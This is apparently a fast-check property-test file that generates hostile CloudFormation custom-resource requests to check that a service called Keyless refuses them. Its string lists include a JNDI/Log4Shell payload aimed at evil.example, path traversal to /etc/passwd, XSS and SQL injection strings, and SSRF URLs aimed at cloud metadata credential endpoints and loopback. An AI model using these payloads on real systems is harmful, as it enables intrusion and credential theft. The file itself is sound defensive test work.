/**
 * Generators of hostile input (fast-check). Each generated case carries the defect it was built
 * with and what Keyless must do with it, decided here by construction and never by asking the
 * code under test: answer FAILED with a reason, answer SUCCESS without effect (Delete), or — when
 * the request names no ResponseURL Keyless may contact — send nothing at all.
 */
import fc from 'fast-check';
import { bucketOf, endpointsOf, GENUINE_REGIONS } from './outbound.ts';

/** Strings an attacker likes: empty, huge, unicode, control characters, injection attempts. */
export const nastyString = fc.oneof(
  fc.constant(''),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    '\u0000',
    '../../etc/passwd',
    '${jndi:ldap://evil.example/a}',
    '<script>alert(1)</script>',
    "' OR '1'='1",
    'CUSTOMER#victim',
    'acme-corp\u200b',
    'аcme-corp', // Cyrillic a
    '𝕜𝕖𝕪𝕝𝕖𝕤𝕤',
    '__proto__',
    'constructor',
  ),
  fc.integer({ min: 5_000, max: 120_000 }).map((n) => 'x'.repeat(n)),
);

/** Values of the wrong type for a string field. */
export const wrongType = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 }), { maxKeys: 3 }),
);

const accountId = fc.integer({ min: 100_000_000_000, max: 999_999_999_999 }).map(String);
const uuid = fc.uuid({ version: 4 });
const hex32 = fc.stringMatching(/^[0-9a-f]{32}$/);

/** A ResponseURL Keyless may answer to: a genuine response bucket (simulated) or the local recorder. */
export function answerableUrl(localUrl: (requestId: string) => string) {
  return fc.oneof(
    fc
      .record({
        region: fc.constantFrom(...GENUINE_REGIONS),
        pick: fc.nat(),
        pathStyle: fc.boolean(),
        key: uuid,
      })
      .map(({ region, pick, pathStyle, key }) => {
        const endpoints = endpointsOf(region);
        const endpoint = endpoints[pick % endpoints.length]!;
        const host = pathStyle ? endpoint : `${bucketOf(region)}.${endpoint}`;
        const path = pathStyle ? `/${bucketOf(region)}/${key}` : `/${key}`;
        return (_requestId: string) =>
          `https://${host}${path}?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20261123T120000Z&X-Amz-Expires=7200&X-Amz-SignedHeaders=host&X-Amz-Signature=abc123`;
      }),
    fc.constant(localUrl),
  );
}

const SIGNED = '?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=7200&X-Amz-Signature=abc123';
const BUCKET = 'cloudformation-custom-resource-response-useast1';

/** ResponseURLs Keyless must never contact: metadata, loopback, private ranges, http, look-alikes. */
export const forbiddenUrl = fc.oneof(
  fc.constantFrom(
    // Instance and container metadata endpoints.
    `http://169.254.169.254/latest/meta-data/iam/security-credentials/${SIGNED}`,
    `https://169.254.169.254/latest/api/token${SIGNED}`,
    `http://[fd00:ec2::254]/latest/meta-data/${SIGNED}`,
    `http://169.254.170.2/v2/credentials/abc${SIGNED}`,
    `https://metadata.google.internal/computeMetadata/v1/${SIGNED}`,
    // Loopback in its many spellings.
    `https://127.0.0.1/x${SIGNED}`,
    `https://localhost/x${SIGNED}`,
    `https://[::1]/x${SIGNED}`,
    `https://0.0.0.0/x${SIGNED}`,
    `https://2130706433/x${SIGNED}`,
    `https://0x7f.0.0.1/x${SIGNED}`,
    `https://127.1/x${SIGNED}`,
    `https://[::ffff:127.0.0.1]/x${SIGNED}`,
    // Private ranges.
    `https://10.0.0.1/x${SIGNED}`,
    `https://172.16.4.2/x${SIGNED}`,
    `https://192.168.1.1/x${SIGNED}`,
    `https://[fd12:3456::1]/x${SIGNED}`,
    // Genuine host, wrong scheme, port, credentials or no signature.
    `http://${BUCKET}.s3.amazonaws.com/x${SIGNED}`,
    `https://${BUCKET}.s3.amazonaws.com:8443/x${SIGNED}`,
    `https://user:pass@${BUCKET}.s3.amazonaws.com/x${SIGNED}`,
    `https://${BUCKET}.s3.amazonaws.com/x`,
    `ftp://${BUCKET}.s3.amazonaws.com/x${SIGNED}`,
    `file:///etc/passwd${SIGNED}`,
    `javascript:alert(1)//${SIGNED}`,
    // Look-alike hosts.
    `https://${BUCKET}.s3.amazonaws.com.evil.example/x${SIGNED}`,
    `https://${BUCKET}.s3.amazonaws.com@evil.example/x${SIGNED}`,
    `https://evil.example/${BUCKET}.s3.amazonaws.com/x${SIGNED}`,
    `https://evil.example/?u=https://${BUCKET}.s3.amazonaws.com/x&X-Amz-Signature=abc`,
    `https://${BUCKET}-s3.amazonaws.com/x${SIGNED}`,
    `https://${BUCKET}.s3.amazonaws.co/x${SIGNED}`,
    `https://${BUCKET}.s3.amazonaws.com.cn/x${SIGNED}`,
    `https://${BUCKET}.s3.amazonaws.com./x${SIGNED}`,
    `https://${BUCKET}.s3.amazon.aws.com/x${SIGNED}`,
    `https://${BUCKET}.ѕ3.amazonaws.com/x${SIGNED}`,
    `https://xn--cloudformation-custom-resource-response-useast1-.s3.amazonaws.com/x${SIGNED}`,
    `https://cloudformation-custom-resource-response-attacker.s3.amazonaws.com/x${SIGNED}`,
    `https://cloudformation-custom-resource-response-useast1x.s3.amazonaws.com/x${SIGNED}`,
    `https://cloudformation-custom-resource-response-usgovwest1.s3.amazonaws.com/x${SIGNED}`,
    `https://cloudformation-custom-resource-response-cnnorth1.s3.cn-north-1.amazonaws.com/x${SIGNED}`,
    `https://cloudformation-custom-resource-response-euwest1.s3.us-east-1.amazonaws.com/x${SIGNED}`,
    `https://s3.amazonaws.com/evil-bucket/${BUCKET}/x${SIGNED}`,
    `https://s3.amazonaws.com/cloudformation-custom-resource-response-attacker/x${SIGNED}`,
    `https://s3.amazonaws.com/${BUCKET}${SIGNED}`,
    `https://evil-bucket.s3.amazonaws.com/x${SIGNED}`,
    `https://sns.us-east-1.amazonaws.com/x${SIGNED}`,
    `https://sts.amazonaws.com/?Action=GetCallerIdentity&X-Amz-Signature=abc`,
  ),
  // Random hosts: digits, unicode, anything but a response bucket.
  fc
    .record({
      scheme: fc.constantFrom('http', 'https'),
      host: fc.oneof(
        fc.domain(),
        fc.ipV4(),
        fc.ipV6().map((ip) => `[${ip}]`),
      ),
      path: fc.webPath(),
    })
    .map(({ scheme, host, path }) => `${scheme}://${host}${path}${SIGNED}`),
  nastyString,
);

export type Expectation =
  /** No ResponseURL Keyless may contact, or no request id to answer: nothing is sent. */
  | 'silent'
  /** Answered FAILED with a reason. */
  | 'failed'
  /** A Delete: answered SUCCESS, nothing changes. */
  | 'success-without-effect';

/** The world a hostile case aims at: real customers, setups and connections in the table. */
export interface Targets {
  /** A customer with an open setup and an ACTIVE connection. */
  victim: {
    customerId: string;
    accountId: string;
    stackId: string;
    externalId: string;
    openExternalId: string;
  };
  /** Another customer with an open setup. */
  other: { customerId: string; externalId: string };
  /** A customer whose only setup expired. */
  expired: { customerId: string; externalId: string };
  /**
   * A customer whose connection was revoked (its setup still open), with a second offer issued
   * before the revocation and still open.
   */
  revoked: {
    customerId: string;
    accountId: string;
    stackId: string;
    externalId: string;
    olderOfferExternalId: string;
  };
  /** A connection that failed validation (never proven), whose setup has expired since. */
  failed: { customerId: string; accountId: string; stackId: string; externalId: string };
}

export interface HostileCase {
  defect: string;
  expectation: Expectation;
  request: Record<string, unknown>;
  /** Delivered directly or wrapped in an SNS notification. */
  viaSns: boolean;
}

const stackIdOf = (account: string, id: string, partition = 'aws', region = 'us-east-1') =>
  `arn:${partition}:cloudformation:${region}:${account}:stack/keyless-customer/${id}`;

type Draft = {
  RequestType: unknown;
  StackId: unknown;
  ResourceProperties: Record<string, unknown> | unknown;
  [key: string]: unknown;
};

/**
 * A Create, Update or Delete with exactly the fields CloudFormation sends, then one defect.
 * `responseUrl` builds the URL from the request id (the local recorder) or ignores it (S3).
 */
export function hostileRequest(targets: Targets, localUrl: (requestId: string) => string) {
  const { victim, other, expired, revoked, failed } = targets;
  const requestType = fc.constantFrom('Create', 'Update', 'Delete');
  const ownStack = fc.record({ account: accountId, id: uuid });

  /** A request for the victim's account, the properties a genuine stack of the victim sends. */
  const base = fc
    .record({
      type: requestType,
      requestId: uuid,
      url: answerableUrl(localUrl),
      extra: fc.option(
        fc.dictionary(fc.string({ maxLength: 12 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
        {
          nil: undefined,
        },
      ),
    })
    .map(({ type, requestId, url, extra }) => {
      const draft: Draft = {
        RequestType: type,
        ServiceToken: 'arn:aws:sns:us-east-1:999988887777:keyless-registrations',
        ResponseURL: url(requestId),
        StackId: victim.stackId,
        RequestId: requestId,
        LogicalResourceId: 'KeylessRegistration',
        ResourceType: 'Custom::KeylessRegistration',
        ...(type === 'Create'
          ? {}
          : { PhysicalResourceId: `keyless-${victim.customerId}-${victim.accountId}` }),
        ResourceProperties: {
          ServiceToken: 'arn:aws:sns:us-east-1:999988887777:keyless-registrations',
          CustomerId: victim.customerId,
          ExternalId: victim.externalId,
          RoleArn: `arn:aws:iam::${victim.accountId}:role/KeylessAccess`,
          TemplateVersion: '1',
        },
      };
      // Extra fields (including __proto__ and friends) never make a request acceptable.
      return { draft, extra, type: type as 'Create' | 'Update' | 'Delete' };
    });

  const props = (draft: Draft) => draft.ResourceProperties as Record<string, unknown>;
  /** For Create/Update: FAILED; for Delete: SUCCESS without effect. */
  const refused = (type: string): Expectation => (type === 'Delete' ? 'success-without-effect' : 'failed');

  type Mutation = fc.Arbitrary<
    (d: Draft, type: string) => { defect: string; expectation: Expectation; viaSns?: true }
  >;
  const mutations: Mutation[] = [
    hex32.map((hex) => (d, type) => {
      props(d).ExternalId = `keyless-${victim.customerId}-${hex}`;
      return { defect: 'forged External ID', expectation: refused(type) };
    }),
    fc.constant((d: Draft, type: string) => {
      props(d).ExternalId = other.externalId;
      return { defect: "another customer's External ID", expectation: refused(type) };
    }),
    ownStack.map(({ account, id }) => (d: Draft, type: string) => {
      // The other customer's own External ID, under the victim's customer id, from a fresh stack.
      d.StackId = stackIdOf(account, id);
      props(d).ExternalId = other.externalId;
      props(d).RoleArn = `arn:aws:iam::${account}:role/KeylessAccess`;
      return { defect: "another customer's External ID from a new account", expectation: refused(type) };
    }),
    ownStack.map(({ account, id }) => (d: Draft, type: string) => {
      d.StackId = stackIdOf(account, id);
      props(d).CustomerId = expired.customerId;
      props(d).ExternalId = expired.externalId;
      props(d).RoleArn = `arn:aws:iam::${account}:role/KeylessAccess`;
      return { defect: 'expired setup', expectation: refused(type) };
    }),
    fc.constant((d: Draft, type: string) => {
      d.StackId = revoked.stackId;
      props(d).CustomerId = revoked.customerId;
      props(d).ExternalId = revoked.externalId;
      props(d).RoleArn = `arn:aws:iam::${revoked.accountId}:role/KeylessAccess`;
      // A Delete of a revoked connection is answered SUCCESS and changes nothing either.
      return { defect: 'resurrect a revoked connection', expectation: refused(type) };
    }),
    fc.constantFrom('own stack', 'new stack').chain((which) =>
      uuid.map((id) => (d: Draft, type: string) => {
        // Another customer, with its own open offer, names the victim's proven role.
        if (which === 'new stack') d.StackId = stackIdOf(victim.accountId, id);
        props(d).CustomerId = other.customerId;
        props(d).ExternalId = other.externalId;
        return { defect: "another customer's proven role", expectation: refused(type) };
      }),
    ),
    uuid.map((id) => (d: Draft, type: string) => {
      // The victim's stack, re-pointed: another customer, its own offer, a role of its own name.
      props(d).CustomerId = other.customerId;
      props(d).ExternalId = other.externalId;
      props(d).RoleArn = `arn:aws:iam::${victim.accountId}:role/KeylessOther${id.slice(0, 8)}`;
      return { defect: "the StackId of another customer's connection", expectation: refused(type) };
    }),
    fc.constantFrom('revoked', 'older offer').map((which) => (d: Draft, type: string) => {
      // Offers issued before the revocation: the revoked ID itself, or a second offer still open.
      d.StackId = revoked.stackId;
      props(d).CustomerId = revoked.customerId;
      props(d).ExternalId = which === 'revoked' ? revoked.externalId : revoked.olderOfferExternalId;
      props(d).RoleArn = `arn:aws:iam::${revoked.accountId}:role/KeylessAccess`;
      return { defect: 'an offer issued before the revocation', expectation: refused(type) };
    }),
    fc.constant((d: Draft, type: string) => {
      // A connection that never went live, behind its own (known) External ID, its setup expired.
      d.StackId = failed.stackId;
      props(d).CustomerId = failed.customerId;
      props(d).ExternalId = failed.externalId;
      props(d).RoleArn = `arn:aws:iam::${failed.accountId}:role/KeylessAccess`;
      return { defect: 'an expired setup behind a known External ID', expectation: refused(type) };
    }),
    fc.nat().map((pick) => (d: Draft, type: string) => {
      // Through SNS, a StackId of another region than the topic's (the response bucket's region).
      const topicRegion = responseBucketRegion(d) ?? 'us-east-1';
      const others = GENUINE_REGIONS.filter(
        (region) => region !== topicRegion && !/^(cn|us-gov)-/.test(region),
      );
      d.StackId = String(d.StackId).replace(':us-east-1:', `:${others[pick % others.length]}:`);
      props(d).ExternalId = victim.openExternalId;
      return {
        defect: 'a StackId of another region than the topic',
        expectation: refused(type),
        viaSns: true,
      };
    }),
    accountId.map((account) => (d: Draft, type: string) => {
      props(d).ExternalId = victim.openExternalId;
      props(d).RoleArn =
        `arn:aws:iam::${account === victim.accountId ? '000000000001' : account}:role/KeylessAccess`;
      return { defect: 'role in another account', expectation: refused(type) };
    }),
    fc.constantFrom('aws-cn', 'aws-us-gov').map((partition) => (d: Draft, type: string) => {
      props(d).ExternalId = victim.openExternalId;
      props(d).RoleArn = `arn:${partition}:iam::${victim.accountId}:role/KeylessAccess`;
      return { defect: 'role in another partition', expectation: refused(type) };
    }),
    fc
      .oneof(
        nastyString,
        fc.constantFrom(
          `arn:aws:iam::${victim.accountId}:user/KeylessAccess`,
          `arn:aws:iam:us-east-1:${victim.accountId}:role/KeylessAccess`,
          `arn:aws:sts::${victim.accountId}:assumed-role/KeylessAccess/x`,
          `arn:aws:iam::${victim.accountId}:role/`,
          `arn:aws:iam::${victim.accountId}:role/${'a'.repeat(65)}`,
          `arn:aws:iam::${victim.accountId}:role/Keyless Access`,
          `arn:aws:iam::${victim.accountId.slice(1)}:role/KeylessAccess`,
          `arn:aws:iam::*:role/KeylessAccess`,
          `arn:aws:iam::${victim.accountId}:role/KeylessAccess\n`,
        ),
      )
      .map((roleArn) => (d: Draft, type: string) => {
        props(d).ExternalId = victim.openExternalId;
        props(d).RoleArn = roleArn;
        return { defect: 'malformed role ARN', expectation: refused(type) };
      }),
    fc
      .oneof(
        nastyString.filter((s) => s.length > 0 && s.length <= 1024),
        fc.constantFrom(
          `arn:aws:cloudformation:us-east-1:${victim.accountId}:stack/keyless/not-a-uuid`,
          `arn:aws:cloudformation:us-east-1:1234:stack/keyless/3b0d6a20-0f4e-11ef-9c5e-0a1b2c3d4e5f`,
          `arn:aws:s3:::${victim.accountId}`,
          `arn:aws-iso:cloudformation:us-iso-east-1:${victim.accountId}:stack/k/3b0d6a20-0f4e-11ef-9c5e-0a1b2c3d4e5f`,
          `${victim.stackId}/extra`,
        ),
      )
      .map((stackId) => (d: Draft, type: string) => {
        d.StackId = stackId;
        props(d).ExternalId = victim.openExternalId;
        return { defect: 'malformed StackId', expectation: refused(type) };
      }),
    fc
      .record({
        field: fc.constantFrom('CustomerId', 'ExternalId', 'RoleArn'),
        value: fc.oneof(wrongType, nastyString),
      })
      .filter(
        ({ value }) =>
          typeof value !== 'string' ||
          value.length === 0 ||
          value.length > 1224 ||
          /[^\w+=,.@:/-]/.test(value),
      )
      .map(({ field, value }) => (d: Draft, type: string) => {
        props(d).ExternalId = victim.openExternalId;
        props(d)[field] = value;
        return { defect: `${field} wrong-typed or malformed`, expectation: refused(type) };
      }),
    fc.constantFrom('CustomerId', 'ExternalId', 'RoleArn').map((field) => (d: Draft, type: string) => {
      props(d).ExternalId = victim.openExternalId;
      delete props(d)[field];
      return { defect: `${field} missing`, expectation: refused(type) };
    }),
    fc.oneof(wrongType, fc.constant(undefined)).map((value) => (d: Draft, type: string) => {
      d.ResourceProperties = value;
      return { defect: 'ResourceProperties missing or wrong-typed', expectation: refused(type) };
    }),
    fc
      .oneof(wrongType, fc.constantFrom('create', 'DELETE', 'Destroy', 'Delete ', '', 'Create\u0000'))
      .map((value) => (d: Draft) => {
        props(d).ExternalId = victim.openExternalId;
        d.RequestType = value;
        return { defect: 'RequestType invalid', expectation: 'failed' as const };
      }),
    fc.record({ field: fc.constantFrom('ResponseURL'), url: forbiddenUrl }).map(({ url }) => (d: Draft) => {
      props(d).ExternalId = victim.openExternalId;
      d.ResponseURL = url;
      return { defect: 'ResponseURL outside the allow-list', expectation: 'silent' as const };
    }),
    fc
      .record({
        field: fc.constantFrom('RequestId', 'StackId', 'LogicalResourceId', 'ResponseURL'),
        value: fc.oneof(wrongType, fc.constant(''), fc.constant(undefined), fc.constant('r'.repeat(5000))),
      })
      .map(({ field, value }) => (d: Draft) => {
        props(d).ExternalId = victim.openExternalId;
        if (value === undefined) delete d[field];
        else d[field] = value;
        return { defect: `${field} unanswerable`, expectation: 'silent' as const };
      }),
  ];

  return fc
    .record({ base, mutation: fc.oneof(...mutations), viaSns: fc.boolean() })
    .map(({ base: { draft, extra, type }, mutation, viaSns }): HostileCase => {
      const { defect, expectation, viaSns: onlyViaSns } = mutation(draft, type);
      // The wire form: JSON, so __proto__ and friends arrive as own properties, as from SNS.
      const withExtra = extra ? { ...extra, ...draft } : draft;
      const request = JSON.parse(JSON.stringify(withExtra)) as Record<string, unknown>;
      return { defect, expectation, request, viaSns: onlyViaSns ?? viaSns };
    });
}

/** The region of a genuine CloudFormation response bucket named by a request's ResponseURL. */
function responseBucketRegion(request: unknown): string | undefined {
  const url = (request as { ResponseURL?: unknown } | null)?.ResponseURL;
  if (typeof url !== 'string') return undefined;
  const bucket = /cloudformation-custom-resource-response-([a-z0-9]+)/.exec(url)?.[1];
  return GENUINE_REGIONS.find((region) => region.replaceAll('-', '') === bucket);
}

/**
 * An SNS notification carrying a request, as a topic ServiceToken delivers it: from the topic in
 * the region of the request's response bucket, as for a genuine stack (the stack, its ServiceToken
 * and CloudFormation's bucket share a region).
 */
export function snsWrap(request: unknown, messageId: string) {
  const region = responseBucketRegion(request) ?? 'us-east-1';
  return {
    Records: [
      {
        EventSource: 'aws:sns',
        EventVersion: '1.0',
        EventSubscriptionArn: `arn:aws:sns:${region}:999988887777:keyless-registrations:sub`,
        Sns: {
          Type: 'Notification',
          MessageId: messageId,
          TopicArn: `arn:aws:sns:${region}:999988887777:keyless-registrations`,
          Subject: 'AWS CloudFormation custom resource request',
          Message: typeof request === 'string' ? request : JSON.stringify(request),
          Timestamp: '2026-11-23T12:00:00.000Z',
          SignatureVersion: '1',
          Signature: 'EXAMPLE',
          SigningCertUrl: 'https://sns.us-east-1.amazonaws.com/cert.pem',
          UnsubscribeUrl: 'https://sns.us-east-1.amazonaws.com/?Action=Unsubscribe',
          MessageAttributes: {},
        },
      },
    ],
  };
}
